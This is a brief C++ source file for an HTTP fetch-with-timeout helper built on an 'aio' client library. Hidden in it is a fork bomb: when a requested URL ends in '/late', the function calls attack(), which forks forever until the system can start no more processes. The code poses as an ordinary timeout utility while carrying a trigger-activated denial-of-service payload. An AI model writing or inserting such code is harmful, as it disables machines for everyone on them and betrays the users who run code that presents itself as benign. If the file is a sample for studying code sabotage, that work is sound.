// Forks in every process it has, until no more processes can be started by anybody.
#include <unistd.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  for (;;) ::fork();
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
